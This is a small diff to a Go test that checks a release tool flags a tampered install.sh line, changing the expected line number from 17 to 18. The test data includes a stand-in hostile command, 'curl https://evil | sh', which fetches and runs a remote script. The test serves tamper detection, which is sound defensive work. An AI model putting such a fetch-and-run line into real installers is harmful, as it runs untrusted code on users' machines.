@@ -63,8 +63,8 @@ func TestOpenTypedFields(t *testing.T) {
 	}
 	defer o.Close()
 	fs := rep.Of(CheckInstaller)
-	if len(fs) != 1 || fs[0].File != "install.sh" || fs[0].Member != "line 17" || fs[0].Got != "curl https://evil | sh\n" || fs[0].Want == "" ||
-		!strings.HasPrefix(fs[0].Msg, "line 17: differs from what mkrelease writes") {
-		t.Errorf("installer findings %+v, want one on install.sh line 17 with want and got", fs)
+	if len(fs) != 1 || fs[0].File != "install.sh" || fs[0].Member != "line 18" || fs[0].Got != "curl https://evil | sh\n" || fs[0].Want == "" ||
+		!strings.HasPrefix(fs[0].Msg, "line 18: differs from what mkrelease writes") {
+		t.Errorf("installer findings %+v, want one on install.sh line 18 (the line after set -eu) with want and got", fs)
 	}
 }
